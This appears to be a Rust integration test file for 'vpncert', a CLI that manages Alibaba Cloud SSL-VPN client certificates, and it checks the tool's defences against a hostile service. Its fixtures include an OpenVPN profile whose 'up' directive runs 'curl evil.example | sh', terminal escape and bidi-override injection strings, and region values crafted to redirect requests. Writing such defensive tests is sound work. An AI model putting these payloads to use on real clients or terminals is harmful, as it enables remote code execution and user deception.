//! What a hostile or impersonated service can get out of `vpncert`: nothing on the terminal, in
//! the profiles it writes, or in the secrets it prints.

mod common;

use common::hostile::{bundle_json, Hostile};
use common::{run, Sandbox, SERVER};

const CERT: &str = "vsc-hostile0001";

#[test]
fn show_without_with_key_prints_no_secret_block_of_the_profile() {
    let config = "client\nremote vpn.example.com 1194\n<pkcs12>\nPKCS12SECRET\n</pkcs12>\n\
        <auth-user-pass>\nalice\nPASSWORDSECRET\n</auth-user-pass>\n\
        <key>\n-----BEGIN PRIVATE KEY-----\nKEYSECRET\n-----END PRIVATE KEY-----\n</key>\nverb 3\n";
    let api = Hostile::start(&[(
        "DescribeSslVpnClientCert",
        bundle_json(CERT, SERVER, "alice", config),
    )]);
    let sb = Sandbox::new();
    for format in ["json", "table"] {
        let r = run(sb.cli(&api.url).args(["--output", format, "show", CERT]));
        r.assert_code(0);
        for secret in [
            "PKCS12SECRET",
            "PASSWORDSECRET",
            "KEYSECRET",
            "THEPRIVATEKEY",
        ] {
            assert!(
                !r.stdout.contains(secret),
                "{format}: {secret} in\n{}",
                r.stdout
            );
            assert!(
                !r.stderr.contains(secret),
                "{format}: {secret} in\n{}",
                r.stderr
            );
        }
    }
    let shown = run(sb.cli(&api.url).args(["--output", "json", "show", CERT])).json();
    let profile = shown["client_config"].as_str().unwrap();
    assert!(
        profile.contains("<pkcs12>\n<redacted>\n</pkcs12>\n"),
        "{profile}"
    );
    assert!(
        profile.contains("remote vpn.example.com 1194\n"),
        "{profile}"
    );

    let with_key = run(sb
        .cli(&api.url)
        .args(["--output", "json", "show", CERT, "--with-key"]));
    with_key.assert_code(0);
    assert!(with_key.stdout.contains("PKCS12SECRET") && with_key.stdout.contains("THEPRIVATEKEY"));
}

const HOSTILE_CONFIG: &str = "client\ndev tun\nremote 47.1.2.3 1194\nscript-security 2\nup \"/bin/sh -c 'curl evil.example | sh'\"\nverb 3\n";

fn created(name: &str) -> String {
    format!(r#"{{"RequestId":"R-create","Name":"{name}","SslVpnClientCertId":"{CERT}"}}"#)
}

/// Every file under `dir`, as paths relative to it.
fn files_under(dir: &std::path::Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else {
                out.push(p.strip_prefix(dir).unwrap().display().to_string());
            }
        }
    }
    out.sort();
    out
}

#[test]
fn a_profile_that_would_run_a_program_is_refused_and_nothing_is_written() {
    let api = Hostile::start(&[
        ("CreateSslVpnClientCert", created("alice")),
        (
            "DescribeSslVpnClientCert",
            bundle_json(CERT, SERVER, "alice", HOSTILE_CONFIG),
        ),
        // The bulk run looks for certificates the names already have: none.
        (
            "DescribeSslVpnClientCerts",
            r#"{"RequestId":"R-l","PageNumber":1,"PageSize":50,"TotalCount":0,"SslVpnClientCertKeys":{"SslVpnClientCertKey":[]}}"#.to_owned(),
        ),
    ]);
    let sb = Sandbox::new();
    std::fs::write(sb.join("people.txt"), "alice\n").unwrap();
    let before = files_under(sb.path());

    let issue = run(sb
        .cli(&api.url)
        .args(["issue", "--server", SERVER, "--name", "alice"]));
    issue.assert_code(1);
    for want in [
        "ClientConfig",
        "line 4",
        "`script-security`",
        CERT,
        "no profile was written",
    ] {
        assert!(
            issue.stderr.contains(want),
            "{want:?} missing from {}",
            issue.stderr
        );
    }

    let show = run(sb.cli(&api.url).args(["show", CERT, "--out", "alice.ovpn"]));
    show.assert_code(1);
    assert!(show.stderr.contains("ClientConfig"), "{}", show.stderr);

    let bulk = run(sb.cli(&api.url).args([
        "--output",
        "json",
        "issue",
        "--server",
        SERVER,
        "--names-from",
        "people.txt",
        "--out-dir",
        "profiles",
    ]));
    bulk.assert_code(1);
    let s = bulk.json();
    assert_eq!(s["results"][0]["result"], "failed", "{s}");
    assert!(s["results"][0]["error"]["message"]
        .as_str()
        .unwrap()
        .contains("ClientConfig"));

    let mut after = files_under(sb.path());
    after.retain(|f| !before.contains(f));
    assert!(after.is_empty(), "nothing written: {after:?}");
}

/// Characters a terminal acts on: window title (OSC), bell, cursor movement, bidi override.
const RAW: [char; 5] = ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\u{2066}'];

#[track_caller]
fn assert_no_raw_controls(what: &str, text: &str) {
    for c in RAW {
        assert!(
            !text.contains(c),
            "{what}: raw U+{:04X} in {text:?}",
            u32::from(c)
        );
    }
}

#[test]
fn names_and_messages_from_the_service_cannot_drive_the_terminal() {
    let evil_name = "\u{1b}]0;pwned\u{7}alice\u{202e}gpj.exe\u{9b}2J\u{2066}";
    let list = serde_json::json!({
        "RequestId": "R-list", "PageNumber": 1, "PageSize": 50, "TotalCount": 1,
        "SslVpnClientCertKeys": {"SslVpnClientCertKey": [{
            "SslVpnClientCertId": CERT, "SslVpnServerId": SERVER, "Name": evil_name,
            "Status": "normal\u{1b}[31m", "RegionId": common::REGION,
            "CreateTime": 1_700_000_000_000u64, "EndTime": 1_800_000_000_000u64,
        }]},
    })
    .to_string();
    let servers = serde_json::json!({
        "RequestId": "R-servers", "PageNumber": 1, "PageSize": 50, "TotalCount": 1,
        "SslVpnServers": {"SslVpnServer": [{
            "SslVpnServerId": SERVER, "Name": evil_name, "InternetIp": "47.1.2.3",
            "Proto": "UDP", "Port": 1194, "VpnGatewayId": "vpn-\u{1b}[2J",
        }]},
    })
    .to_string();
    let api = Hostile::start_with_status(&[
        ("DescribeSslVpnClientCerts", 200, list),
        ("DescribeSslVpnServers", 200, servers),
        (
            "DescribeSslVpnClientCert",
            200,
            bundle_json(CERT, SERVER, evil_name, "client\n"),
        ),
        (
            "ModifySslVpnClientCert",
            400,
            serde_json::json!({
                "RequestId": "R-\u{202e}1", "Code": "Forbidden\u{1b}]0;x\u{7}",
                "Message": "denied \u{202e}txt.exe\u{1b}[2J",
            })
            .to_string(),
        ),
    ]);
    let sb = Sandbox::new();

    let listed = run(sb.cli(&api.url).arg("list"));
    listed.assert_code(0);
    assert_no_raw_controls("list", &listed.stdout);
    assert!(
        listed
            .stdout
            .contains("\\x1b]0;pwned\\x07alice\\u{202e}gpj.exe\\u{9b}2J\\u{2066}"),
        "{}",
        listed.stdout
    );
    assert!(
        listed.stdout.contains("normal\\x1b[31m"),
        "{}",
        listed.stdout
    );

    for args in [
        vec!["servers"],
        vec!["show", CERT],
        vec!["show", CERT, "--with-key"],
    ] {
        let r = run(sb.cli(&api.url).args(&args));
        r.assert_code(0);
        assert_no_raw_controls(&args.join(" "), &r.stdout);
        assert_no_raw_controls(&args.join(" "), &r.stderr);
        assert!(r.stdout.contains("\\x1b]0;pwned"), "{}", r.stdout);
    }

    let rename = run(sb.cli(&api.url).args(["rename", CERT, "bob"]));
    rename.assert_code(1);
    assert_no_raw_controls("rename error", &rename.stderr);
    assert!(
        rename.stderr.contains("\\u{202e}txt.exe"),
        "{}",
        rename.stderr
    );

    // JSON keeps the data as sent; serde escapes the control characters.
    let json = run(sb.cli(&api.url).args(["--output", "json", "list"]));
    json.assert_code(0);
    assert!(!json.stdout.contains('\u{1b}') && !json.stdout.contains('\u{7}'));
    assert_eq!(json.json()["ssl_vpn_client_certs"][0]["name"], evil_name);
}

/// A loopback port nothing listens on.
fn closed_port() -> u16 {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    l.local_addr().unwrap().port()
}

#[test]
fn a_hostile_region_cannot_redirect_the_request_from_a_flag_or_the_cli_config() {
    let sb = Sandbox::new();
    // No endpoint: the region would become part of the host name.
    let r = run(sb
        .bare()
        .env("ALIBABA_CLOUD_ACCESS_KEY_ID", "id")
        .env("ALIBABA_CLOUD_ACCESS_KEY_SECRET", "secret")
        .args(["--region", "x@127.0.0.1:1/", "list"]));
    r.assert_code(2);
    assert!(r.stderr.contains("RegionId"), "{}", r.stderr);

    std::fs::create_dir_all(sb.join(".aliyun")).unwrap();
    std::fs::write(
        sb.join(".aliyun/config.json"),
        r#"{"current":"p","profiles":[{"name":"p","mode":"AK","access_key_id":"id","access_key_secret":"secret","region_id":"evil.example.com/"}]}"#,
    )
    .unwrap();
    let r = run(sb.bare().args(["list"]));
    r.assert_code(2);
    assert!(r.stderr.contains("RegionId"), "{}", r.stderr);
}

#[test]
fn an_echoed_token_is_scrubbed_from_the_cli_output_and_its_logs() {
    const TOKEN: &str = "STS-echoed-token-7c1d9a";
    const SECRET: &str = "echoed-secret-4e2b8f";
    let body = format!(
        r#"{{"RequestId":"R-1","Code":"InternalError","Message":"failed for SecurityToken={TOKEN}&AccessKeySecret={SECRET} ({TOKEN})"}}"#
    );
    let api = Hostile::start_with_status(&[("DescribeSslVpnClientCerts", 500, body)]);
    let sb = Sandbox::new();
    for args in [
        &["--max-retries", "0", "list"][..],
        &["--output", "json", "--max-retries", "0", "list"],
        &["-vv", "--max-retries", "0", "list"],
    ] {
        let r = run(sb
            .bare()
            .env("ALIBABA_CLOUD_ACCESS_KEY_ID", "STS.id")
            .env("ALIBABA_CLOUD_ACCESS_KEY_SECRET", SECRET)
            .env("ALIBABA_CLOUD_SECURITY_TOKEN", TOKEN)
            .env("ALIBABA_CLOUD_REGION_ID", "cn-hangzhou")
            .args(["--endpoint", &api.url])
            .args(args));
        assert_ne!(r.code, 0, "{args:?}");
        for text in [&r.stdout, &r.stderr] {
            assert!(
                !text.contains(TOKEN) && !text.contains(SECRET),
                "{args:?}: {text}"
            );
        }
        assert!(r.stderr.contains("InternalError"), "{args:?}: {}", r.stderr);
    }
}

#[test]
fn proxies_a_socks_proxy_that_is_down_and_loopback_endpoints_that_take_none() {
    let sb = Sandbox::new();
    let proxy = format!("socks5h://127.0.0.1:{}", closed_port());
    // Not loopback: the request goes to the proxy, which is not there (the proxy resolves the
    // name, so nothing is looked up or sent off this machine).
    let r = run(sb
        .cli("https://vpc.cn-hangzhou.aliyuncs.com")
        .env("HTTPS_PROXY", &proxy)
        .args(["--max-retries", "0", "list"]));
    r.assert_code(3);
    assert!(
        r.stderr.to_lowercase().contains("transport"),
        "{}",
        r.stderr
    );

    // Loopback: no proxy from the environment, so the call reaches the service.
    let emu = vpncert_emulator::Emulator::start_default().unwrap();
    let dead = format!("http://127.0.0.1:{}", closed_port());
    let r = run(sb
        .cli(&emu.url())
        .env("HTTP_PROXY", &dead)
        .env("HTTPS_PROXY", &dead)
        .env("ALL_PROXY", &dead)
        .args(["list", "--server", SERVER]));
    r.assert_code(0);

    // An endpoint's password is refused and never repeated.
    let r = run(sb.cli("http://user:hunter2pass@127.0.0.1:1").args(["list"]));
    r.assert_code(2);
    assert!(!r.stderr.contains("hunter2pass"), "{}", r.stderr);
}
